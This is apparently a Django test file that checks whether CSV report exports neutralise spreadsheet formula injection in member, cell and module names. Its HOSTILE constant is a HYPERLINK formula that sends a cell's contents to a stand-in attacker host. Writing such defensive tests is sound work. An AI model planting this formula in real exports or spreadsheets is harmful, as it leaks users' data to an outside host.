import csv
import io

from django.urls import reverse

from courses.tests.conftest import build_module, complete

HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm")'


def _rows(response):
    """Every row of the report's CSV (streamed), the header too: titles are column names there."""
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))


def test_it_exports_no_formula_from_a_member_name_in_the_cell_csv(client_as, personas, org):
    module = build_module(org["committee"], title="@SUM(1+1)")
    member = personas["member_a"]
    member.full_name = HOSTILE
    member.save(update_fields=["full_name"])
    complete(member, module)
    response = client_as(personas["secretary_a"]).get(
        reverse("reports:unit_csv", args=[org["cell_a"].pk]) + "?year=2020"
    )
    cells = [value for row in _rows(response) for value in row]
    assert "'" + HOSTILE in cells and any(value.startswith("'@SUM(1+1)") for value in cells)
    assert not any(value.startswith(("=", "+", "-", "@")) for value in cells)


def test_it_exports_no_formula_from_a_cell_name_in_the_committee_csv(client_as, personas, org):
    build_module(org["committee"], title="-2+3")
    org["cell_a"].name = HOSTILE
    org["cell_a"].save(update_fields=["name"])
    response = client_as(personas["officer"]).get(
        reverse("reports:unit_csv", args=[org["committee"].pk]) + "?year=2020"
    )
    cells = [value for row in _rows(response) for value in row]
    assert "'" + HOSTILE in cells and any(value.startswith("'-2+3") for value in cells)
    assert not any(value.startswith(("=", "+", "-", "@")) for value in cells)
